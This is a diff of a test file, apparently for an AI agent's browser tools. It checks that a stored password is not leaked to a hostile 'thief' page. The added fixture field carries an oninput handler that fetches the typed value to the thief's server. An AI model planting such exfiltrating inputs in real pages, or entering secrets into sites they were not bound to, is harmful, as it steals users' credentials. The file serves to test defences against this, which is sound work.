@@ -41,7 +41,8 @@ describe.skipIf(path === undefined)(`${browserTitle("pages", path)} that give or
   let order: Order;
 
   beforeAll(async () => {
-    thief = owned.use(await createSite({ "/frame": "<label>Word <input name=Frame></label>" }));
+    const field = "<input name=Frame oninput='fetch(`/frame?${value}`)'>";
+    thief = owned.use(await createSite({ "/frame": `<label>Word ${field}</label>` }));
     const evil = (): string => `http://localhost:${thief.port}`;
     shop = owned.use(
       await createSite({
@@ -72,7 +73,8 @@ describe.skipIf(path === undefined)(`${browserTitle("pages", path)} that give or
       order = one;
       const model = obedient();
       const before = thief.requests.length;
-      const secrets = new Secrets({ word: WORD }, { word: new URL(shop.url("/")).origin });
+      // Given for no origin, it must not become that of another site either.
+      const secrets = new Secrets({ word: WORD });
       const steps = [];
       {
         await using work = await openPageTools(page, { start: shop.url("/"), secrets });
